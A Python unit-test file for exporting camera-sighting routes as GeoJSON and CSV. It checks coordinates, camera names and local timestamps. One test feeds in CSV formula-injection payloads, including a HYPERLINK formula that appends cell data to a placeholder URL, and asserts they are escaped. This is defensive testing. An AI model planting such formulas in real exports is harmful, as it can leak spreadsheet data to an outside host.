"""Files of routes: each stop is named, and its times are those of clocks at the camera."""

import csv
import io
from zoneinfo import ZoneInfo

import pytest

from serving.matching.route_files import NamedCamera, routes_csv, routes_geojson
from tests.unit.serving.matching.test_route import sighting

CAMERAS = {("demo", "north0"): NamedCamera("북문", ZoneInfo("Asia/Seoul"))}


def test_geojson_has_a_line_and_a_point_a_sighting() -> None:
    route = [sighting(1, 0, 10, 0, 0.9), sighting(2, 100, 110, 100, 0.8)]
    line, first, second, alone = routes_geojson([route, route[:1]], CAMERAS)["features"]
    assert line["geometry"]["type"] == "LineString"
    assert line["geometry"]["coordinates"] == [first["geometry"]["coordinates"], second["geometry"]["coordinates"]]
    assert first["geometry"]["coordinates"] == [128.6, 35.8]  # longitude first, as RFC 7946 says
    assert (second["properties"]["route"], second["properties"]["stop"]) == (1, 2)
    assert (alone["geometry"]["type"], alone["properties"]["route"]) == ("Point", 2)
    at_camera = {name: first["properties"][name] for name in ("camera_id", "camera_name", "first_seen")}
    assert at_camera == {"camera_id": "north0", "camera_name": "북문", "first_seen": "2026-05-01T21:00:00+09:00"}
    assert second["properties"]["camera_name"] == "north100"  # it has been removed: its id, and UTC


def test_no_route_is_an_empty_collection() -> None:
    assert routes_geojson([], {})["features"] == []


def test_the_table_has_a_line_a_stop() -> None:
    route = [sighting(1, 0, 10, 0, 0.9), sighting(2, 100, 110, 100, 0.8)]
    lines = list(csv.DictReader(io.StringIO(routes_csv([route, route[:1]], CAMERAS))))
    assert [(line["route"], line["stop"], line["tracklet_id"]) for line in lines] == [
        ("1", "1", "1"),
        ("1", "2", "2"),
        ("2", "1", "1"),
    ]
    assert (lines[0]["camera_name"], lines[0]["last_seen"]) == ("북문", "2026-05-01T21:00:10+09:00")
    assert (lines[1]["camera_name"], lines[1]["first_seen"]) == ("north100", "2026-05-01T12:01:40+00:00")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_cell_of_a_table_is_a_formula(name: str) -> None:
    west = sighting(1, 0, 1, 0, 0.9).model_copy(update={"district": name, "camera_id": name, "longitude": -1.5})
    [row] = csv.DictReader(io.StringIO(routes_csv([[west]], {}), newline=""))
    assert (row["district"], row["camera_id"]) == (f"'{name}", f"'{name}")
    assert row["longitude"] == "-1.5"
